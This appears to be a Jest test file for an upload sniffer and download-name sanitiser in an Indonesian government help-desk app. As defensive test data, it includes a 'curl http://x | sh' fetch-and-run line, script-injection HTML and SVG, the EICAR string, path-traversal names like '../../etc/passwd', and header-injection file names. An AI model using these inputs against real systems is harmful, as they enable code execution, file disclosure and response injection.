import {
  DOCUMENT_SNIFF_BYTES,
  MAX_DOWNLOAD_NAME,
  safeDownloadName,
  sniffDocumentType,
  type DocumentExt,
} from '../../src/documents/file-type';

const latin1 = (s: string) => Buffer.from(s, 'latin1');

/** A complete one-page PDF, as small as they come. */
const pdf = latin1(
  [
    '%PDF-1.4',
    '%\xe2\xe3\xcf\xd3',
    '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
    '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
    '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj',
    'trailer << /Root 1 0 R >>',
    '%%EOF',
  ].join('\n'),
);
/** A complete 1x1 RGBA PNG (signature, IHDR, IDAT, IEND, valid CRCs). */
const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);
/** Start of a JFIF JPEG (camera apps and scanners): SOI, APP0 "JFIF". */
const jpegJfif = Buffer.from([
  0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x48,
  0x00, 0x48, 0x00, 0x00,
]);
/** Start of an Exif JPEG (phone photos sent over WhatsApp): SOI, APP1 "Exif". */
const jpegExif = Buffer.from([
  0xff, 0xd8, 0xff, 0xe1, 0x00, 0x22, 0x45, 0x78, 0x69, 0x66, 0x00, 0x00, 0x4d, 0x4d, 0x00, 0x2a,
]);
/** A Windows executable: DOS header "MZ" ... "This program cannot be run in DOS mode". */
const exe = Buffer.concat([
  Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00]),
  latin1('\xff\xff\x00\x00This program cannot be run in DOS mode.'),
]);
const elf = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00]);
const zip = Buffer.concat([
  Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00]),
  latin1('[Content_Types].xml'),
]);

describe('sniffDocumentType', () => {
  test.each([
    ['a complete PDF 1.4', pdf, 'application/pdf', 'pdf'],
    ['a PDF 2.0 header', latin1('%PDF-2.0\n'), 'application/pdf', 'pdf'],
    ['a complete PNG', png, 'image/png', 'png'],
    ['a JFIF JPEG', jpegJfif, 'image/jpeg', 'jpg'],
    ['an Exif JPEG', jpegExif, 'image/jpeg', 'jpg'],
    ['just the first bytes of a PNG', png.subarray(0, DOCUMENT_SNIFF_BYTES), 'image/png', 'png'],
  ])('%s', (_name, head, mime, ext) => {
    expect(sniffDocumentType(head)).toEqual({ mime, ext });
  });

  test('works on a slice of a larger buffer', () => {
    const big = Buffer.concat([Buffer.from('xxxx'), png]);
    expect(sniffDocumentType(big.subarray(4))).toEqual({ mime: 'image/png', ext: 'png' });
  });

  test.each([
    ['an EXE (whatever its name says)', exe],
    ['an ELF binary', elf],
    ['a shell script', latin1('#!/bin/sh\ncurl http://x | sh\n')],
    ['a script with env', latin1('#!/usr/bin/env node\n')],
    ['HTML', latin1('<!DOCTYPE html><html><body><script>alert(1)</script>')],
    ['SVG with script', latin1('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">')],
    ['a bare SVG', latin1('<svg onload="alert(1)"/>')],
    ['a ZIP / DOCX / XLSX', zip],
    ['an old Office file (OLE2)', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])],
    ['a GIF', latin1('GIF89a\x01\x00\x01\x00')],
    ['a BMP', latin1('BM6\x00\x00\x00')],
    ['a WebP', latin1('RIFF\x24\x00\x00\x00WEBPVP8 ')],
    [
      'the EICAR test file',
      latin1('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!'),
    ],
    ['plain text', latin1('Mohon reset password SPSE saya')],
    ['an empty buffer', Buffer.alloc(0)],
    ['a truncated PDF signature', latin1('%PDF')],
    ['a truncated JPEG signature', Buffer.from([0xff, 0xd8])],
    ['a truncated PNG signature', png.subarray(0, 7)],
    [
      'a PNG signature with one byte changed',
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0b]),
    ],
    ['a lower-case pdf header', latin1('%pdf-1.4\n')],
    ['a PDF header after a BOM', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), pdf])],
    ['a PDF header after a blank line', latin1(`\n${pdf.toString('latin1')}`)],
    ['an EXE with a PDF header further in (polyglot)', Buffer.concat([exe, pdf])],
    ['an HTML file with a PNG inside', Buffer.concat([latin1('<html>'), png])],
  ])('refuses %s', (_name, head) => {
    expect(sniffDocumentType(head)).toBeNull();
  });
});

describe('safeDownloadName', () => {
  test.each<[string, DocumentExt, string]>([
    ['KTP Budi Santoso.jpeg', 'jpg', 'KTP_Budi_Santoso.jpg'],
    ['SK_Penunjukan_PPK_2025.pdf', 'pdf', 'SK_Penunjukan_PPK_2025.pdf'],
    ['scan-formulir.PNG', 'png', 'scan-formulir.png'],
    // the sniffed type wins over the name
    ['laporan.exe', 'pdf', 'laporan.pdf'],
    ['invoice.pdf.exe', 'pdf', 'invoice_pdf.pdf'],
    ['foto.php.jpg', 'jpg', 'foto_php.jpg'],
    ['Formulir Reset Password', 'pdf', 'Formulir_Reset_Password.pdf'],
    // path traversal: only the last segment survives
    ['../../etc/passwd', 'pdf', 'passwd.pdf'],
    ['..\\..\\Windows\\System32\\cmd.exe', 'pdf', 'cmd.pdf'],
    ['/var/www/html/shell.php', 'png', 'shell.png'],
    ['uploads/../..', 'pdf', 'dokumen.pdf'],
    // unicode
    ['Surat Permohonan Désy Ratnasari.pdf', 'pdf', 'Surat_Permohonan_Desy_Ratnasari.pdf'],
    ['Surat Permohonan – 2025 “final”.pdf', 'pdf', 'Surat_Permohonan_2025_final.pdf'],
    ['申请书.pdf', 'pdf', 'dokumen.pdf'],
    ['KTP 🙂.jpg', 'jpg', 'KTP.jpg'],
    ['ｆｕｌｌｗｉｄｔｈ.pdf', 'pdf', 'fullwidth.pdf'],
    // header injection and control characters (`/` in the injected text still splits the path)
    ['a.pdf\r\nContent-Type: text/html\r\n\r\n<script>', 'pdf', 'html_script.pdf'],
    ['nul\u0000byte.pdf', 'pdf', 'nul_byte.pdf'],
    ['tab\there.pdf', 'pdf', 'tab_here.pdf'],
    ['"quoted"; filename=evil.pdf', 'pdf', 'quoted_filename_evil.pdf'],
    // edge cases
    ['', 'pdf', 'dokumen.pdf'],
    ['....', 'png', 'dokumen.png'],
    ['.htaccess', 'pdf', 'dokumen.pdf'],
    ['-rf.pdf', 'pdf', 'rf.pdf'],
    ['CON.pdf', 'pdf', 'CON_.pdf'],
    ['lpt1', 'jpg', 'lpt1_.jpg'],
  ])('%j as %s -> %j', (original, ext, expected) => {
    expect(safeDownloadName(original, ext)).toBe(expected);
  });

  test('long names are cut to 100 characters, keeping the extension', () => {
    const long = `${'Surat Permohonan Reset Password SPSE '.repeat(10)}.pdf`;
    const name = safeDownloadName(long, 'pdf');
    expect(name.length).toBeLessThanOrEqual(MAX_DOWNLOAD_NAME);
    expect(name).toMatch(/^Surat_Permohonan_Reset_Password_SPSE_Surat.*[^_]\.pdf$/);
    expect(safeDownloadName('x'.repeat(5000), 'png')).toBe(`${'x'.repeat(96)}.png`);
  });

  test('every result is a plain ASCII name with the sniffed extension', () => {
    const nasty = [
      '../../etc/passwd',
      '\r\n\r\n',
      '\u202Egnp.exe',
      'a/b\\c:d*e?f"g<h>i|j',
      ' '.repeat(200),
      '%2e%2e%2fetc%2fpasswd',
      `${'é'.repeat(300)}.pdf`,
    ];
    for (const original of nasty) {
      for (const ext of ['pdf', 'jpg', 'png'] as const) {
        const name = safeDownloadName(original, ext);
        expect(name).toMatch(new RegExp(`^[A-Za-z0-9][A-Za-z0-9_-]{0,95}\\.${ext}$`));
        expect(name.length).toBeLessThanOrEqual(MAX_DOWNLOAD_NAME);
      }
    }
  });

  test('refuses an extension that is not a document type', () => {
    expect(() => safeDownloadName('a', 'exe' as DocumentExt)).toThrow();
  });
});
